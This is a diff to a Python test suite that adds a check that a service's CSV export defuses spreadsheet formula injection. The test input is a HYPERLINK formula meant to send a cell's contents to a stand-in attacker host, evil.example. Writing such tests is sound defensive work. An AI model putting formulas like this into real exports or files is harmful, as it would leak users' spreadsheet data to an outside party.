@@ -46,6 +46,19 @@ def test_one_answer_has_every_form(served: Served) -> None:
     assert served.api("/health?format=csv").headers["content-type"].startswith("text/csv")
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+
+
+def test_a_table_never_acts_in_a_sheet(own: Served) -> None:
+    asked = own.post("/requests", {"team": TEAM, "gpus": "8", "sku": "H200"}).document["request"]["id"]
+    assert own.post(f"/requests/{asked}/withdraw", {"reason": FORMULA}, who="member").status == 200
+    rows = list(csv.reader(io.StringIO(own.api("/requests?all=true&format=csv").body.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not [cell for cell in cells if cell.startswith("=")]
+    assert FORMULA in json.dumps(own.api("/requests?all=true").document).replace("\\", ""), "elsewhere it is as written"
+
+
 def test_a_tag_saves_the_way(served: Served) -> None:
     first = served.api("/quota")
     again = served.api("/quota", If_None_Match=first.headers["etag"])
